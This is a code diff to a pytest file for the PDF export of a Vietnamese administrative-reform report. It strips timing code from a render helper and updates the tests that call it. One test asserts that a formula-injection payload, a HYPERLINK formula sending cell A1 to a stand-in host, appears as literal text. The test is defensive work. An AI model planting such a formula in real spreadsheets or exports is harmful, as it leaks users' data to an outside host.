@@ -8,7 +8,6 @@ from __future__ import annotations
 import dataclasses
 import re
 import subprocess
-import time
 import unicodedata
 from pathlib import Path
 
@@ -38,22 +37,18 @@ def page_sizes(path: Path) -> list[tuple[float, float]]:
     return [(float(w), float(h)) for w, h in re.findall(r"^Page\s+\d+ size:\s+([\d.]+) x ([\d.]+) pts", info, re.M)]
 
 
-def render_to(path: Path, report) -> tuple[Path, list[tuple[float, str]], float]:
+def render_to(path: Path, report) -> tuple[Path, list[tuple[float, str]]]:
+    """The export written to `path`; its time is measured by bench/bench_export.py, not here."""
     steps: list[tuple[float, str]] = []
-    started = time.perf_counter()
     data = export(report, "pdf", progress=lambda share, step: steps.append((share, step)))
-    elapsed = time.perf_counter() - started
     assert isinstance(data, bytes) and data.startswith(b"%PDF-")
     path.write_bytes(data)
-    return path, steps, elapsed
+    return path, steps
 
 
 @pytest.fixture(scope="module")
 def rendered(report, tmp_path_factory):
-    path, steps, elapsed = render_to(tmp_path_factory.mktemp("pdf") / file_name(report, "pdf"), report)
-    print(f"\nPDF of {report.plan_id} {report.period_code}: rendered in {elapsed:.2f} s, "
-          f"{len(page_sizes(path))} pages, {path.stat().st_size:,} bytes")
-    return path, steps
+    return render_to(tmp_path_factory.mktemp("pdf") / file_name(report, "pdf"), report)
 
 
 @pytest.fixture(scope="module")
@@ -161,7 +156,7 @@ def test_decomposed_text_is_printed_composed(report, tmp_path):
     nfd = dataclasses.replace(report, organisation=unicodedata.normalize("NFD", "Sở Y tế Đồng Nai"),
                               plan_title=unicodedata.normalize("NFD", "Kế hoạch cải cách hành chính năm 2023"))
     assert nfd.organisation != "Sở Y tế Đồng Nai"
-    path, _, _ = render_to(tmp_path / "nfd.pdf", nfd)
+    path, _ = render_to(tmp_path / "nfd.pdf", nfd)
     shown = pdf_text(path)
     assert "Kế hoạch cải cách hành chính năm 2023" in shown
     assert "SỞ Y TẾ ĐỒNG NAI" in shown
@@ -171,7 +166,7 @@ def test_decomposed_text_is_printed_composed(report, tmp_path):
 def test_hostile_text_is_printed_literally(hostile_report, tmp_path, exports_dir):
     """docs/reliability-catalogue.md D1/D2: formula-like text is shown as typed; a control character does not
     break the file."""
-    path, _, _ = render_to(tmp_path / "hostile.pdf", hostile_report)
+    path, _ = render_to(tmp_path / "hostile.pdf", hostile_report)
     shown = pdf_text(path)
     assert "=HYPERLINK(" in shown
     assert '=HYPERLINK("http://x.example/?"&A1,"Bấm")' in shown
@@ -193,7 +188,7 @@ def test_no_previous_snapshot_and_empty_tables(report, tmp_path):
         report, changes=[], changes_against=None, illustrative=False,
         overdue=Table(report.overdue.key, report.overdue.title, report.overdue.columns,
                       report.overdue.frame.iloc[0:0]))
-    path, _, _ = render_to(tmp_path / "quiet.pdf", quiet)
+    path, _ = render_to(tmp_path / "quiet.pdf", quiet)
     shown = pdf_text(path)
     assert T["no_previous"] in shown
     lines = [line.strip() for line in shown.splitlines() if line.strip()]
@@ -212,7 +207,7 @@ def test_an_area_without_data_gets_no_bar(report, tmp_path, exports_dir):
     frame.loc[row, ["attainment", "status"]] = [None, text.STATUS["no_data"]]
     blank = dataclasses.replace(report, by_area=Table(report.by_area.key, report.by_area.title,
                                                       report.by_area.columns, frame))
-    path, _, _ = render_to(tmp_path / "no-data.pdf", blank)
+    path, _ = render_to(tmp_path / "no-data.pdf", blank)
     lines = pdf_text(path, 1).splitlines()
     # The chart writes the words where the bar would be; the table row shows "—" for the figure.
     assert any("Cải cách thể chế" in line and text.STATUS["no_data"] in line and text.MISSING not in line
